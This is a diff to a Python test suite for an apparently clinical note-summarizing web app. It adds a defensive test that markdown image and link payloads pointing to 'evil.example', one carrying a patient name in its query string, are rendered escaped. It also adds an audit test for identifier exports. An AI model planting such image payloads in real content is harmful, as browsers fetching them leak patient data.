@@ -28,7 +28,7 @@ def test_paste_summarize_provenance_edit_handoff(app, store):
     next(b for b in app.button if b.label == "Summarize pasted note").click()
     app.run()
     assert not app.exception and not app.error
-    text = " ".join(m.value for m in app.markdown)
+    text = " ".join(m.value for m in app.markdown).replace("\\", "")  # note text is shown escaped
     assert "68-year-old man" in text
     caps = " ".join(c.value for c in app.caption)
     assert "extractive" in caps and "no language model" in caps
@@ -36,7 +36,7 @@ def test_paste_summarize_provenance_edit_handoff(app, store):
     item = next(b for b in app.button if "furosemide" in b.label)
     item.click()
     app.run()
-    assert any("Furosemide 40 mg" in i.value for i in app.info)
+    assert any("Furosemide 40 mg" in i.value.replace("\\", "") for i in app.info)
     # hand-off
     next(b for b in app.button if b.label == "Send to treatment planner").click()
     app.run()
@@ -69,7 +69,8 @@ def test_sample_and_reload_restores_work(settings, fast_embed):
     again.query_params["ws"] = ws
     again.run()
     assert not again.exception
-    assert any("year-old" in m.value or "Patient" in m.value for m in again.markdown if m.value.startswith("**"))
+    assert any("year-old" in m.value.replace("\\", "") or "Patient" in m.value
+               for m in again.markdown if m.value.startswith("**"))
 
 
 def test_lab_section_renders(settings, store):
@@ -84,3 +85,42 @@ def test_lab_section_renders(settings, store):
     assert not at.exception
     assert len(at.dataframe) >= 2
     assert any(m.label.startswith("Clinician correction pairs") for m in at.metric)
+
+
+def _unescaped_markdown(values) -> list[str]:
+    """Rendered strings in which a markdown image or link would be live (an unescaped '![' or '](')."""
+    import re
+
+    live = re.compile(r"(?<!\\)!(?<!\\)\[|(?<!\\)\]\(")
+    return [v for v in values if live.search(v)]
+
+
+def test_markdown_in_a_note_is_shown_as_text(app):
+    # An image in rendered markdown is fetched by every viewer's browser: a tracking and exfiltration channel.
+    note = ("HPI: 68-year-old man with chest pain ![x](http://evil.example/t.png?n=Jenkins).\n"
+            "Medications: Furosemide 40 mg PO daily [click](http://evil.example/).\n"
+            "Assessment: chest pain ![y](http://evil.example/a.png).\n")
+    app.text_area(key="rec_input").set_value(note)
+    next(b for b in app.button if b.label == "Summarize pasted note").click()
+    app.run()
+    assert not app.exception and not app.error
+    shown = [m.value for m in app.markdown] + [i.value for i in app.info] + [b.label for b in app.button] + [
+        c.value for c in app.caption] + [w.value for w in app.warning] + [s.value for s in app.success]
+    assert any("evil" in v for v in shown)  # the text is there, as typed
+    assert _unescaped_markdown(shown) == []
+    item = next(b for b in app.button if "Furosemide" in b.label or "furosemide" in b.label)
+    item.click()
+    app.run()
+    assert _unescaped_markdown([i.value for i in app.info]) == [] and app.info
+
+
+def test_identifiers_in_downloads_are_an_audited_choice(app, store):
+    app.text_area(key="rec_input").set_value("Patient: Harold Jenkins\nHPI: 68-year-old man with chest pain.\n")
+    next(b for b in app.button if b.label == "Summarize pasted note").click()
+    app.run()
+    toggle = app.toggle(key="rec_ident")
+    assert toggle.value is False  # de-identified downloads by default
+    assert not [e for e in store.audit_events() if e["action"] == "export_identifiers"]
+    toggle.set_value(True).run()
+    assert not app.exception and not app.error
+    assert [e for e in store.audit_events() if e["action"] == "export_identifiers"]
